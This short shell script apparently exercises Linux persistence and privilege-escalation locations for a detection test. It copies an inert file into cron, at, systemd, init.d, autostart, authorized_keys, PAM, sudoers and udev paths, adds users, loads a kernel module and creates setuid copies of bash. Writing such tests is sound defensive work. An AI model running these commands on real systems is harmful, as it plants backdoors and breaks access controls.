cd /home/kenji
cp plan.txt /etc/cron.d/report
cp plan.txt /var/spool/cron/atjobs/a0000101d5a3c0
echo 'true' >> .bashrc
cp plan.txt /etc/systemd/system/report.service
cp plan.txt /etc/systemd/system/report.timer
cp plan.txt /etc/init.d/report
cp plan.txt .config/autostart/report.desktop
cp plan.txt .ssh/authorized_keys
: > /etc/ld.so.preload
cp plan.txt /etc/pam.d/report
cp plan.txt /etc/sudoers.d/report
echo 'lab:x:4999:4999::/:/usr/sbin/nologin' >> /etc/passwd
useradd -M -u 4998 lab2
cp plan.txt /etc/udev/rules.d/99-report.rules
ln -s /bin/busybox insmod; ./insmod none.ko
cp /bin/true own; chmod u+s own
cp /bin/bash bash; chmod 4755 bash
setpriv --reuid 4666 --clear-groups /home/kenji/bash -p -c true
